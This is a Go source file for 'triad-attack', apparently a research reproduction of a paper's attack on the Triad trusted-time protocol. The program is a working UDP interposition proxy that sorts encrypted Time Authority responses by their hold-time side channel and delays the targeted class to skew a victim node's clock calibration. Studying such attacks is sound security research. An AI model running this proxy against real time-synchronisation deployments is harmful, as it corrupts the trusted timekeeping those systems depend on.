// Command triad-attack is the live embodiment of the paper's F+ / F-
// calibration attacks: a UDP middlebox an attacker with OS control
// would interpose between the local Triad node and the Time Authority.
//
// Point the victim node's -authority endpoint at this proxy; the proxy
// forwards to the real authority. Messages stay encrypted end-to-end —
// the proxy classifies each response purely by the observed
// request-to-response hold time (the paper's timing side channel) and
// delays the class its mode targets.
//
// Usage:
//
//	triad-attack -listen :7200 -upstream localhost:7100 -mode F- -delay 100ms
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"triadtime/internal/attack"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "triad-attack:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("triad-attack", flag.ContinueOnError)
	listen := fs.String("listen", "0.0.0.0:7200", "UDP address the victim node talks to")
	upstream := fs.String("upstream", "", "the real Time Authority's host:port")
	modeStr := fs.String("mode", "F-", "attack mode: F+ (delay high-sleep responses) or F- (delay low-sleep)")
	delay := fs.Duration("delay", 100*time.Millisecond, "delay added to targeted responses")
	threshold := fs.Duration("threshold", 500*time.Millisecond, "hold-time split between low and high sleep classes")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *upstream == "" {
		return fmt.Errorf("-upstream is required")
	}
	mode, err := parseMode(*modeStr)
	if err != nil {
		return err
	}
	upAddr, err := net.ResolveUDPAddr("udp", *upstream)
	if err != nil {
		return fmt.Errorf("resolve upstream: %w", err)
	}
	conn, err := net.ListenPacket("udp", *listen)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	p := newProxy(conn, upAddr, mode, *delay, *threshold)
	fmt.Printf("%s attack proxy on %s -> %s (delay %v, threshold %v)\n",
		mode, conn.LocalAddr(), upAddr, *delay, *threshold)

	errc := make(chan error, 1)
	go func() { errc <- p.serve() }()
	sigc := make(chan os.Signal, 1)
	signal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
	select {
	case err := <-errc:
		return err
	case <-sigc:
		fmt.Printf("shutting down: %d responses delayed, %d passed\n", p.delayed.Load(), p.passed.Load())
		return conn.Close()
	}
}

// parseMode maps the flag to an attack mode.
func parseMode(s string) (attack.Mode, error) {
	switch strings.ToUpper(s) {
	case "F+", "FPLUS":
		return attack.ModeFPlus, nil
	case "F-", "FMINUS":
		return attack.ModeFMinus, nil
	default:
		return 0, fmt.Errorf("unknown mode %q (want F+ or F-)", s)
	}
}

// flow is the NAT state for one victim endpoint: an upstream socket and
// the victim's own classifier, which the request and response
// goroutines share under mu.
type flow struct {
	client net.Addr
	up     *net.UDPConn

	mu  sync.Mutex
	cls attack.Classifier
}

// proxy shuttles datagrams between victims and the Time Authority,
// delaying the responses each flow's classifier targets — the same
// classification internal/attack.Delay runs in the simulation.
type proxy struct {
	conn     net.PacketConn
	upstream *net.UDPAddr
	extra    time.Duration
	start    time.Time         // origin of the classifiers' instants
	cls      attack.Classifier // template for every new flow

	mu    sync.Mutex
	flows map[string]*flow

	delayed, passed atomic.Int64
}

func newProxy(conn net.PacketConn, upstream *net.UDPAddr, mode attack.Mode, extra, threshold time.Duration) *proxy {
	return &proxy{
		conn:     conn,
		upstream: upstream,
		extra:    extra,
		start:    time.Now(),
		cls:      attack.Classifier{Mode: mode, Threshold: int64(threshold)},
		flows:    make(map[string]*flow),
	}
}

// now is the classifiers' clock: monotonic nanoseconds since start.
func (p *proxy) now() int64 { return int64(time.Since(p.start)) }

func (p *proxy) serve() error {
	buf := make([]byte, 64*1024)
	for {
		n, from, err := p.conn.ReadFrom(buf)
		if err != nil {
			return nil // closed
		}
		f, err := p.flowFor(from)
		if err != nil {
			continue
		}
		f.mu.Lock()
		f.cls.Request(p.now())
		f.mu.Unlock()
		// Requests pass untouched (delaying them would shift both
		// classes equally and cancel out of the regression).
		_, _ = f.up.Write(buf[:n])
	}
}

// flowFor finds or creates the NAT flow for a victim endpoint, wiring
// its response path.
func (p *proxy) flowFor(client net.Addr) (*flow, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if f, ok := p.flows[client.String()]; ok {
		return f, nil
	}
	up, err := net.DialUDP("udp", nil, p.upstream)
	if err != nil {
		return nil, err
	}
	f := &flow{client: client, up: up, cls: p.cls}
	p.flows[client.String()] = f
	go p.pumpResponses(f)
	return f, nil
}

// pumpResponses relays authority responses back to the victim,
// inserting the attack delay on targeted ones.
func (p *proxy) pumpResponses(f *flow) {
	buf := make([]byte, 64*1024)
	for {
		n, err := f.up.Read(buf)
		if err != nil {
			return
		}
		f.mu.Lock()
		target := f.cls.Response(p.now())
		f.mu.Unlock()
		if !target {
			p.passed.Add(1)
			_, _ = p.conn.WriteTo(buf[:n], f.client)
			continue
		}
		p.delayed.Add(1)
		datagram := append([]byte(nil), buf[:n]...)
		time.AfterFunc(p.extra, func() {
			_, _ = p.conn.WriteTo(datagram, f.client)
		})
	}
}
